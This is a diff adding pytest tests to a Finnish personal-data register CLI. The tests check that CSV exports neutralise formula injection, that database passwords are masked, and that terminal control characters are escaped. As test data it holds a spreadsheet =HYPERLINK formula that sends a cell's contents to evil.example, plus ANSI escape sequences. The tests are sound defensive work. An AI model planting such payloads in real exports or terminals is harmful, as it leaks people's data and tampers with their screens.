@@ -2,8 +2,11 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
+import sqlite3
 import subprocess
 import sys
 import textwrap
@@ -24,6 +27,8 @@ LEGACY_EXAMPLE = ROOT / "examples" / "terhi-kallio" / "rekisteriseloste-2018.tom
 CONSOLE_SCRIPT = Path(sys.executable).parent / "rekisteri"
 
 runner = CliRunner()
+
+pytest_plugins = ["conftest_store"]
 
 BAD_REGISTER = textwrap.dedent(
     """\
@@ -472,3 +477,190 @@ def test_init_interactive_answers_fill_in_only_what_options_lack(tmp_path: Path)
     assert result.exit_code == 0, result.output
     assert "Business or association name" not in result.output
     assert load_register(path).controller.email == "maija@example.fi"
+
+
+# -- what people's tools interpret: spreadsheets, logs, terminals ---------------------------
+
+ESC = "\x1b"
+
+
+def _store(demo_path: Path, *statements: str) -> None:
+    connection = sqlite3.connect(demo_path.with_name("asiakkaat.sqlite"))
+    for statement in statements:
+        connection.execute(statement)
+    connection.commit()
+    connection.close()
+
+
+def test_bundle_csv_cells_are_text_in_a_spreadsheet(demo_path: Path, tmp_path: Path) -> None:
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Avaa")'
+    _store(
+        demo_path,
+        f"UPDATE clients SET street = '{hyperlink.replace(chr(39), chr(39) * 2)}', "
+        "postal_code = '@SUM(1+1)', city = '-2+3' WHERE id = 1",
+        "UPDATE appointments SET minutes = -5, service = '+thing' WHERE client_id = 1",
+    )
+    out = tmp_path / "bundle"
+    result = runner.invoke(
+        app, ["access", str(demo_path), "--id", "1", "-o", str(out), "--format", "json,csv"]
+    )
+    assert result.exit_code == 0, result.output
+    contact = (out / "csv" / "contact-details.csv").read_text(encoding="utf-8-sig")
+    [row] = list(csv.DictReader(io.StringIO(contact, newline="")))
+    assert (row["street"], row["postal_code"], row["city"]) == (
+        "'" + hyperlink,
+        "'@SUM(1+1)",
+        "'-2+3",
+    )
+    rows = list(
+        csv.DictReader(io.StringIO((out / "csv" / "appointments.csv").read_text("utf-8-sig")))
+    )
+    booked = [r for r in rows if r.get("service") == "'+thing"]
+    assert booked and all(r["minutes"] == "-5" for r in booked)  # a number stays a number
+    data = json.loads((out / "data.json").read_text(encoding="utf-8"))
+    [category] = [c for c in data["categories"] if c["id"] == "contact-details"]
+    assert category["sources"][0]["rows"][0]["street"] == hyperlink  # JSON keeps the raw value
+
+
+SECRET_URL = "postgresql://u:p@ss@127.0.0.1:1/x?password=secret"
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["store", "check", "{register}"],
+        ["store", "check", "{register}", "--format", "json"],
+        ["retention", "{register}"],
+        ["retention", "{register}", "--format", "json"],
+        ["retention", "{register}", "--format", "csv"],
+        ["access", "{register}", "--id", "1", "-o", "{out}"],
+        ["marketing", "{register}", "--channel", "email"],
+        ["feedback", "{register}"],
+    ],
+    ids=lambda argv: " ".join(a for a in argv if "{" not in a),
+)
+@pytest.mark.parametrize("where", ["environment", "register"])
+def test_a_store_password_is_never_shown(
+    demo_path: Path, tmp_path: Path, argv: list[str], where: str
+) -> None:
+    env = {"REKISTERI_STORE_URL": SECRET_URL}
+    if where == "register":
+        text = demo_path.read_text(encoding="utf-8")
+        demo_path.write_text(text.replace('url = "asiakkaat.sqlite"', f'url = "{SECRET_URL}"'))
+        env = {"REKISTERI_STORE_URL": ""}
+    args = [a.format(register=demo_path, out=tmp_path / "out") for a in argv]
+    result = runner.invoke(app, args, env=env)
+    assert result.exit_code == 1, result.output
+    assert "p@ss" not in result.output and "secret" not in result.output
+    assert "ss@" not in result.output  # nor what follows the '@' in the password
+    assert "127.0.0.1" in result.output  # the host, to check
+    no_traceback(result.output)
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_url_that_cannot_be_read_hides_its_password(demo_path: Path) -> None:
+    env = {"REKISTERI_STORE_URL": "postgresql://u:p@ss@h:port/x?password=secret"}
+    result = runner.invoke(app, ["store", "check", str(demo_path)], env=env)
+    assert result.exit_code == 1 and "is not a database URL" in result.output
+    assert "p@ss" not in result.output and "secret" not in result.output
+
+
+def test_control_characters_in_arguments_are_escaped(demo_path: Path, tmp_path: Path) -> None:
+    out = tmp_path / "out"
+    result = runner.invoke(
+        app, ["access", str(demo_path), "--email", f"{ESC}[2J{ESC}]0;x\x07", "-o", str(out)]
+    )
+    assert result.exit_code == 1, result.output
+    assert ESC not in result.output and "\x07" not in result.output
+    assert "\\x1b[2J\\x1b]0;x\\x07" in result.output
+    missing = tmp_path / f"r{ESC}[31m\x9b.toml"
+    for output in ("text", "json"):
+        result = runner.invoke(app, ["validate", "--format", output, str(missing)])
+        assert result.exit_code == 1 and ESC not in result.output and "\x9b" not in result.output
+    assert json.loads(result.stdout)["diagnostics"][0]["file"] == str(missing)  # JSON: lossless
+
+
+def test_control_characters_from_the_store_are_escaped(demo_path: Path, tmp_path: Path) -> None:
+    _store(
+        demo_path,
+        "UPDATE clients SET first_name = 'Ai' || char(27) || '[2J' || char(155) || 'no', "
+        "email = 'sama@example.com' WHERE id IN (1, 2)",
+    )
+    result = runner.invoke(
+        app, ["access", str(demo_path), "--email", "sama@example.com", "-o", str(tmp_path / "o")]
+    )
+    assert result.exit_code == 3, result.output  # two people match: they are listed
+    assert ESC not in result.output and "\x9b" not in result.output
+    assert "Ai\\x1b[2J\\x9bno" in result.output
+
+
+def test_control_characters_in_the_request_log_are_escaped(demo_path: Path) -> None:
+    log = ["--log", str(demo_path.with_name("log.sqlite"))]
+    subject = f"Aino {ESC}[2J\x9b V"
+    added = ["requests", "add", str(demo_path), "--type", "access", "--subject", subject]
+    result = runner.invoke(app, [*added, "--received", "2025-05-20", *log])
+    assert result.exit_code == 0, result.output
+    outputs = []
+    for argv in (
+        ["requests", "list", str(demo_path), "--all", "--lang", "en"],
+        ["requests", "list", str(demo_path), "--format", "json"],
+        ["requests", "export", str(demo_path), "--format", "json"],
+        [
+            "requests",
+            "close",
+            str(demo_path),
+            "1",
+            "--outcome",
+            f"Vastattu {ESC}[31m",
+            "--lang",
+            "en",
+        ],
+    ):
+        result = runner.invoke(app, [*argv, *log])
+        assert result.exit_code == 0, result.output
+        assert ESC not in result.output and "\x9b" not in result.output, argv
+        outputs.append(result.stdout)
+    assert "Aino \\x1b[2J\\x9b V" in outputs[0] and "Vastattu \\x1b[31m" in outputs[3]
+    assert json.loads(outputs[1])[0]["subject"] == subject  # JSON: the same value, escaped
+    assert json.loads(outputs[2])[0]["subject"] == subject
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["lint", "x", "--format", "nope"],
+        ["render", "{register}", "-o", "{out}", "--format", "html,nope"],
+        ["record", "{register}", "-o", "{out}", "--format", "nope"],
+        ["access", "{register}", "-o", "{out}", "--id", "1", "--format", "nope"],
+        ["access", "{register}", "-o", "{out}", "--all", "--email", "a@example.com"],
+        ["access", "{register}", "-o", "{out}", "--request", "1", "--all"],
+        ["access", "{register}", "-o", "{out}", "--request", "1", "--ref", "R-1"],
+        ["access", "{register}", "-o", "{out}"],
+        ["access", "{register}", "-o", "{out}", "--email", "a@example.com", "--id", "1"],
+        ["access", "{register}", "-o", "{out}", "--name", "Aino Virtanen"],
+        ["retention", "{register}", "--format", "xlsx"],
+        ["requests", "export", "{register}", "--format", "xlsx"],
+    ],
+    ids=[
+        "lint format", "render format", "record format", "access format", "all with email",
+        "request with all", "request with ref", "no identifier", "two identifiers",
+        "name without birth date", "retention format", "export format",
+    ],
+)  # fmt: skip
+def test_usage_errors_of_the_commands_exit_2(
+    demo_path: Path, tmp_path: Path, argv: list[str]
+) -> None:
+    out = tmp_path / "out"
+    result = runner.invoke(app, [a.format(register=demo_path, out=out) for a in argv])
+    assert result.exit_code == 2, result.output
+    assert "Usage: rekisteri" in result.output
+    no_traceback(result.output)
+    assert not out.exists()
+
+
+def test_the_format_choices_are_the_librarys() -> None:
+    from rekisteri import bundle, cli, notice, record
+
+    assert cli.NOTICE_FORMATS == notice.FORMATS
+    assert cli.RECORD_FORMATS == record.FORMATS
+    assert cli.BUNDLE_FORMATS == bundle.FORMATS
